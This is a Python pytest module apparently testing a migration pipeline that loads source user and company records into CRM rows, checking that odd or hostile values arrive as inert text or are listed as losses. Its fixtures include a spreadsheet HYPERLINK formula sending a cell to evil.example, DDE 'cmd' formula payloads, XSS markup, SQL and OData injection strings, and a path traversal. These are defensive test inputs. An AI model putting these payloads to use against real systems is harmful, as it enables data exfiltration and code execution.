"""What a source may really send: every record gets its disposition, text arrives as text, and each bad record tells all its reasons."""

import json
from pathlib import Path

import pytest

from tests import folders
from tests.folders import organisation_list, user

pytestmark = [pytest.mark.database, pytest.mark.django_db]
TEXTS = {
    "formula": '=HYPERLINK("http://evil.example/?x="&A1,"open")',
    "plus": "+1+1",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+9)*cmd|' /C calc'!A0",
    "markup": "<script>alert('x')</script><img src=x onerror=\"alert(1)\">&amp;",
    "handlebars": '{{#if vip}}{{{firstName}}}{{else}}{{defaultIfEmpty name "x"}}{{/if}}',
    "liquid": "{% for x in (1..999999999) %}{{ x | escape }}{% endfor %}",
    "rtl": "שלום \u202eevil\u202c عربي",
    "emoji": "👨\u200d👩\u200d👧\u200d👦🏳️\u200d🌈🇳🇴",
    "cjk": "漢字仮名交じり文 𠮷野家",
    "combining": "Z̷̢͊a̵͂l̸g̶o",
    "quotes": "O'Neil \"Robert'); DROP TABLE users;--",
    "path": "..\\..\\etc/passwd%00.png",
    "odata": "x' or 1 eq 1 or 'x' eq '",
    "entity": "&#x3c;b&#x3e; %3Cb%3E \\u003cb\\u003e",
}
IDS = {
    "slash": "a/b:c+d&e'f",
    "emoji": "👾 user",
    "quote": "it''s \"q\"",
    "query": "?x=1#y%2F*<>\\",
    "pipe": "a|user|b|lead|",
    "upper": "Case-Only",
    "lower": "case-only",
    "long": "i" * 5_000,
    "nul": "nul\u0000id",
    "number": 12345,
    "zero": 0,
    "float": 1.5,
    "list": ["u-1"],
    "object": {"id": "u-2"},
    "boolean": True,
    "blank": "  ",
}
# Ids that are neither text nor a whole number, and blank ones, are none: the address is the id.
LINES = 177  # of the export
NO_IDS = ("float", "list", "object", "boolean", "blank")
# Names of fields; those without a name, or with one that can't be kept, are no one's.
NAMES = [
    "=cmd|' /C calc'!A0",
    "naïve field",
    "😀",
    "contactid",
    "twin",
    "Twin",
    "$.x",
    'q"uote',
    "{{h}}",
    "mwb_sourceid",
    "runid",
    "a\nb",
    "<b>",
]
NAMELESS = ["", " ", "k" * 400, "k" * 400 + "2", "nul\u0000key"]
BIG, TOO_BIG = "lorem ipsum " * 80_000 + "end", "lorem ipsum " * 90_000 + "end"
FIELDS = {
    "points": "long",
    "ratio": "double",
    "renewal": "date",
    "agreed": "boolean",
    "note": "string",
    "deep": "object",
    "big": "string",
    "mixed": "string",
    "wide": "long",
}
LISTS = {
    11: "Company: =1+1|cmd",
    12: "Company: <script>alert(1)</script> & Söhne",
    13: "Company: {{organisation}} {% raw %}",
    14: "Company: 🏢" + "🏢" * 100,
    15: "Company: Nul\u0000Name\u0007 AG",
    16: "Company: \u0000\u0001",
    17: "Company: \u202eתל אביב 漢字",
    18: "company:   No   prefix case  ",
    19: "Company: O'Neil's \"x\"; DROP",
    22: "Company: Straße Café",
    23: "COMPANY:  STRASSE\t CAFE ",
    20: "Company: " + "Lead's long company " * 7,
}


def values(number: int, **fields: object) -> dict[str, object]:
    """A person whose custom fields hold what is given."""
    return user(f"u-v{number}", f"v{number}@gmail.com", **fields)


def deep(levels: int) -> object:
    found: object = "bottom"
    for _ in range(levels):
        found = {"down": [found]}
    return found


# source id -> the value sent, and the code under which the loss is listed (empty where nothing is lost).
VALUES = {
    "u-v1": ("points", "10000000000000000000000000", "number.out_of_range"),
    "u-v2": ("points", True, "number.unparseable"),
    "u-v3": ("points", "12 apples", "number.unparseable"),
    "u-v4": ("points", [1], "number.unparseable"),
    "u-v5": ("points", -7, ""),
    "u-v6": ("ratio", "1e300", "number.out_of_range"),
    "u-v7": ("renewal", "0001-01-01 00:00:00 +00:00", "date.before_1753"),
    "u-v8": ("renewal", "1970-01-01 00:00:00 +00:00", "date.epoch_zero"),
    "u-v9": ("renewal", "2025-02-30 00:00:00 +00:00", "date.unparseable"),
    "u-v10": ("renewal", "99999-01-01", "date.unparseable"),
    "u-v11": ("renewal", {"day": 1}, "date.unparseable"),
    "u-v12": ("renewal", "9999-12-31 23:59:59 +00:00", ""),
    "u-v13": ("agreed", "perhaps", "boolean.unparseable"),
    "u-v14": ("agreed", 1, ""),
    "u-v15": ("note", "A\u0000B\u0007C\u001b[31mD", "text.control_characters"),
    "u-v16": ("note", "\ud83d half", "text.lone_surrogates"),
    "u-v17": ("jobTitle", "w" * 10_000, "text.shortened"),
    "u-v18": ("jobTitle", "x" * 99 + "😀😀", "text.shortened"),
    "u-v19": ("big", BIG, ""),
    "u-v23": ("wide", 10**25, ""),
    "u-v24": ("wide", -(10**18), ""),
    "u-v20": ("deep", deep(100), ""),
    "u-v21": ("ratio", -0.0, ""),
    "u-v22": ("renewal", "9999-12-31 23:59:59 -10:00", "date.unparseable"),
}


def people() -> list[dict[str, object] | bytes]:
    texts = [user(f"u-t-{name}", f"t.{name}@gmail.com", firstName=text, jobTitle=text, note=text) for name, text in TEXTS.items()]
    ids = [user(value, f"id.{name}@gmail.com") for name, value in IDS.items()]
    odd = [user(f"{source}", f"{source[2:]}@gmail.com", **{field: value}) for source, (field, value, _) in VALUES.items()]
    plenty = [
        user(f"u-p{n}", f"p{n}@gmail.com", points=n, ratio=n / 8, renewal="2025-06-01 00:00:00 +00:00", agreed=True, note="n", big="b")
        for n in range(1, 81)
    ]
    return [*texts, *ids, *odd, *plenty]


def folder(path: Path) -> Path:
    mixed = (1, "x", [1, {"a": None}], {"a": 1}, True, 2.5, None)
    users: list[dict[str, object] | bytes] = [
        *people(),
        user("u-names", "names@gmail.com", **{name: f"value {n}" for n, name in enumerate(NAMES + NAMELESS)}),
        *(user(f"u-m{n}", f"m{n}@gmail.com", mixed=value) for n, value in enumerate(mixed)),
        user("u-too-big", "too.big@gmail.com", big=TOO_BIG),
        user("u-mail-number", 12345),
        user("u-mail-list", ["a@b.example"]),
        user("u-mail-object", {"address": "a@b.example"}),
        user("u-mail-nul", "nul\u0000mail@gmail.com"),
        user("u-mail-long", "l" * 90 + "@longdomain.example"),
        user("u-stage-list", "stage.list@gmail.com", ["customer"]),
        user("u-stage-long", "stage.long@gmail.com", "s" * 5_000),
        user("u-stage-nul", "stage.nul@gmail.com", "sql\u0000"),
        user("u-stage-half", "stage.half@gmail.com", "sql\ud83d"),
        user("u-owner-odd", "owner.odd@gmail.com", ownerEmail={"id": 7}),
        user("u-owner-long", "owner.long@gmail.com", ownerEmail="o" * 5_000),
        user("u-owner-nul", "owner.nul@gmail.com", ownerEmail="own\u0000er\ud83d"),
        user("u-updated-odd", "updated.odd@gmail.com", profileUpdatedAt=["never"]),
        user("u-updated-none", "updated.none@gmail.com", profileUpdatedAt=None),
        user("u-created-future", "created.future@gmail.com", signupDate="2999-01-01 00:00:00 +00:00"),
        user("u-created-odd", "created.odd@gmail.com", signupDate="0001-01-01 00:00:00 +00:00"),
        user("u-name-nul", "name.nul@gmail.com", firstName="\u0000", lastName="\u0000\u0001"),
        user("u-name-types", "name.types@gmail.com", firstName=["Mara"], lastName={"last": "Lind"}),
        user("u-name-long-derived", "d" * 80 + "@gmail.com", firstName=None, lastName=None),
        user("u-org-1", "a@freshfield.example", "lead", emailListIds=[20], jobTitle="J" * 120),
        user("u-org-2", "b@gmail.com", emailListIds=[22]),
        user("u-org-3", "c@gmail.com", emailListIds=[23, 22, 23]),
        user("clash@gmail.com", "clash.owner@gmail.com"),
        user(None, "clash@gmail.com"),
        user(
            "u-all-wrong", ["none"], {"x": 1}, ownerEmail=[], points="many", ratio="much", renewal="soon", agreed="well", note="\u0000n",
            jobTitle="j" * 200, profileUpdatedAt="x", signupDate="y", emailListIds="z", unsubscribedChannelIds="q", firstName={},
            lastName=[],
        ),
        b'{"email": "first@gmail.com", "userId": "u-twice", "lifecycleStage": "lead"'
        b', "lifecycleStage": "customer", "email": "second@gmail.com"}',
        b'{"email": "nan@gmail.com", "userId": "u-nan", "lifecycleStage": "customer", "points": NaN}',
        b'{"email": "latin@gmail.com", "userId": "u-latin", "firstName": "M\xfcller"}',
        b'{"email": "cut@gmail.com", "userId": "u-cut"',
        b'{"deep": ' + b"[" * 5_000 + b"]" * 5_000 + b"}",
        b'"a string"',
        b"null",
        b"\x00\x01\x02",
    ]  # fmt: skip
    lists = [organisation_list(number, name) for number, name in LISTS.items()]
    lists += [organisation_list(30, 12345), organisation_list(31, None), organisation_list(32, ["Company: x"])]
    assert len(users) == LINES
    return folders.write(path, users, lists=lists, fields=FIELDS)


ASK = {"user": [*VALUES, "u-too-big", "u-mail-nul", "u-name-types", "u-owner-nul", "u-org-1", "clash@gmail.com"], "company": ["list:14"]}


def codes(played, source: str, object_name: str = "user") -> list[str]:
    (told,) = [one for one in played.dispositions[source] if one["disposition"] != "merged"]
    assert told["disposition"] == "loaded", told
    return [reason["code"] for reason in told["reasons"]]


def test_everything_balances_in_both_environments(played):
    assert all(phase["balanced"] for phase in played.summary["phases"])
    for environment in ("sandbox", "production"):
        users = [phase for phase in played.summary["phases"] if phase["object"] == "user" and phase["environment"] == environment]
        assert sum(phase["extracted"] for phase in users) == LINES


@pytest.mark.parametrize("name", TEXTS)
def test_text_arrives_as_text_and_does_nothing(played, name):
    row = played.row("contact", f"user:u-t-{name}")
    assert (row["firstname"][:50], row["jobtitle"], row["mwb_note"]) == (TEXTS[name][:50].rstrip(), TEXTS[name], TEXTS[name])


@pytest.mark.parametrize("name", NAMES)
def test_a_field_of_any_name_gets_a_column_of_its_own(played, name):
    assert f"value {NAMES.index(name)}" in played.row("contact", "user:u-names").values()


def test_fields_without_a_usable_name_are_a_finding(played):
    (found,) = [one for one in played.summary["findings"] if one["check"] == "fields without a usable name"]
    assert found["evidence"].startswith(f"{len(NAMELESS)} fields")


@pytest.mark.parametrize("name", IDS)
def test_any_id_addresses_its_own_row(played, name):
    (row,) = [row for row in played.rows("contact") if row["emailaddress1"] == f"id.{name}@gmail.com"]
    written = IDS[name]
    if name in NO_IDS:
        assert row["mwb_sourceid"] == f"user:id.{name}@gmail.com"
    elif name == "long":
        assert row["mwb_sourceid"].startswith("user:sha1:")
    else:
        assert row["mwb_sourceid"] == f"user:{str(written).replace(chr(0), chr(0xFFFD))}"


@pytest.mark.parametrize("source", VALUES)
def test_a_value_that_can_not_arrive_as_it_is_leaves_its_row_loaded_and_is_listed(played, source):
    field, _, code = VALUES[source]
    told = [reason for reason in played.dispositions[source][0]["reasons"] if reason["field"] == field]
    assert codes(played, source) == ([code] if code else [])
    assert [reason["code"] for reason in told] == ([code] if code else [])


@pytest.mark.parametrize(
    ("source", "column", "expected"),
    [
        ("u-v1", "mwb_points", None),
        ("u-v2", "mwb_points", None),
        ("u-v5", "mwb_points", -7),
        ("u-v8", "mwb_renewal", None),
        ("u-v12", "mwb_renewal", "9999-12-31T23:59:59Z"),
        ("u-v14", "mwb_agreed", True),
        ("u-v15", "mwb_note", "ABC[31mD"),
        ("u-v16", "mwb_note", "\ufffd half"),
        ("u-v17", "jobtitle", "w" * 100),
        ("u-v18", "jobtitle", "x" * 99),
    ],
)
def test_what_arrives_of_an_odd_value(played, source, column, expected):
    assert played.row("contact", f"user:{source}").get(column) == expected


@pytest.mark.parametrize(
    ("source", "field", "whole"), [("u-v17", "jobTitle", "w" * 10_000), ("u-v3", "points", "12 apples"), ("u-v13", "agreed", "perhaps")]
)
def test_the_whole_of_it_is_kept(played, source, field, whole):
    assert json.loads(played.row("contact", f"user:{source}")["mwb_original_values"])[field] == whole


def test_a_megabyte_of_text_arrives_and_more_than_the_column_takes_is_cut_and_listed(played):
    assert played.row("contact", "user:u-v19")["mwb_big"] == BIG
    row = played.row("contact", "user:u-too-big")
    assert row["mwb_big"] == TOO_BIG[:1_048_576]
    assert len(row["mwb_original_values"]) <= 1_048_576
    assert codes(played, "u-too-big") == ["text.shortened", "original_values.shortened"]


def test_whole_numbers_beyond_what_a_column_takes_make_the_field_text(played):
    assert played.row("contact", "user:u-v24")["mwb_wide"] == "-1000000000000000000"


def test_deep_structures_arrive_as_json(played):
    assert json.loads(played.row("contact", "user:u-v20")["mwb_deep_down"]) == deep(100)["down"]


def test_fields_of_several_types_become_text_without_loss(played):
    found = {n: played.row("contact", f"user:u-m{n}").get("mwb_mixed") for n in range(7)}
    assert found == {0: "1", 1: "x", 2: '[1,{"a":null}]', 3: '{"a":1}', 4: "true", 5: "2.5", 6: None}


@pytest.mark.parametrize("source", ["u-mail-number", "u-mail-list", "u-mail-object"])
def test_an_address_that_is_no_text_is_held(played, source):
    assert played.reasons(source) == ["email.invalid"]


def test_an_address_with_control_characters_is_mended_and_listed(played):
    assert played.row("contact", "user:u-mail-nul")["emailaddress1"] == "nulmail@gmail.com"
    assert codes(played, "u-mail-nul") == ["text.control_characters"]


def test_an_address_longer_than_the_column_is_rejected(played):
    assert played.reasons("u-mail-long")[0] == "email.too_long"


@pytest.mark.parametrize("source", ["u-stage-list", "u-stage-long", "u-stage-nul", "u-stage-half"])
def test_an_odd_stage_stays_in_review(played, source):
    assert played.reasons(source)[0] == "split.review"


@pytest.mark.parametrize("source", ["u-owner-odd", "u-owner-long", "u-owner-nul"])
def test_an_odd_owner_is_an_owner_without_a_match(played, source):
    assert played.row("contact", f"user:{source}")["_ownerid_value"] == played.row("contact", "user:u-p1")["_ownerid_value"]


@pytest.mark.parametrize("source", ["u-updated-odd", "u-updated-none", "u-created-odd", "u-created-future"])
def test_odd_times_of_a_profile_do_not_keep_it_from_loading(played, source):
    assert played.row("contact", f"user:{source}")["lastname"] == "Lind"


def test_names_of_nothing_are_derived_and_structures_are_shown(played):
    assert played.row("contact", "user:u-name-nul")["lastname"] == "name.nul"
    row = played.row("contact", "user:u-name-types")
    assert (row["firstname"], row["lastname"]) == ('["Mara"]', '{"last":"Lind"}')
    assert played.row("contact", "user:u-name-long-derived")["lastname"] == "d" * 50


def test_a_record_with_every_field_wrong_tells_all_its_reasons_at_once(played):
    assert {"email.invalid", "split.review", "number.unparseable", "date.unparseable", "boolean.unparseable", "text.shortened"} <= set(
        played.reasons("u-all-wrong")
    )
    assert {"text.control_characters"} <= set(played.reasons("u-all-wrong"))
    (one,) = [one for one in played.exceptions if one["source_id"] == "u-all-wrong" and one["environment"] == "production"]
    assert {"points", "ratio", "renewal", "agreed"} <= {reason["field"] for reason in one["reasons"]}


def test_of_a_key_written_twice_the_last_one_counts(played):
    assert played.row("contact", "user:u-twice")["emailaddress1"] == "second@gmail.com"


def test_lines_that_are_no_json_object_are_rejected_one_by_one(played):
    unreadable = [
        one for one in played.exceptions if one["reasons"][0]["code"] == "record.unreadable" and one["environment"] == "production"
    ]
    assert len(unreadable) == 7
    assert all(one["outcome"] == "rejected" for one in unreadable)


def test_a_user_id_that_is_another_records_address_makes_them_one_person(played):
    (row,) = [row for row in played.rows("contact") if "clash" in row["emailaddress1"]]
    assert row["mwb_sourceid"] == "user:clash@gmail.com"
    assert sorted(one["disposition"] for one in played.dispositions["clash@gmail.com"]) == ["loaded", "merged"]


@pytest.mark.parametrize(
    ("number", "name"),
    [
        (11, "=1+1|cmd"),
        (12, "<script>alert(1)</script> & Söhne"),
        (13, "{{organisation}} {% raw %}"),
        (14, "🏢" * 80),
        (15, "NulName AG"),
        (17, "\u202eתל אביב 漢字"),
        (18, "No prefix case"),
        (19, "O'Neil's \"x\"; DROP"),
    ],
)
def test_an_organisation_name_arrives_as_text(played, number, name):
    assert played.row("account", f"company:list:{number}")["name"] == name


def test_lists_whose_names_are_one_after_folding_are_one_account(played):
    row = played.row("account", "company:list:22")
    assert played.row("contact", "user:u-org-2")["_parentcustomerid_value"] == row["accountid"]
    assert played.row("contact", "user:u-org-3")["_parentcustomerid_value"] == row["accountid"]
    assert played.phase("company", "account")["merged"] == 1


def test_an_organisation_name_of_control_characters_is_blank(played):
    assert played.reasons("list:16", "company") == ["company.name_blank"]


def test_what_an_organisation_name_lost_is_listed(played):
    assert codes(played, "list:14") == ["text.shortened"]
    assert played.row("account", "company:list:14")["mwb_original_name"] == "🏢" * 101


def test_a_leads_company_name_that_is_too_long_is_cut_kept_whole_and_listed(played):
    row = played.row("lead", "user:u-org-1")
    whole = ("Lead's long company " * 7).strip()
    assert row["companyname"] == whole[:100].rstrip()
    assert json.loads(row["mwb_original_values"]) == {"companyname": whole, "jobTitle": "J" * 120}
    assert codes(played, "u-org-1") == ["text.shortened", "text.shortened"]


def test_lists_whose_name_is_no_text_are_no_organisations(played):
    assert not [
        row for row in played.rows("account") if row.get("mwb_sourceid") in ("company:list:30", "company:list:31", "company:list:32")
    ]
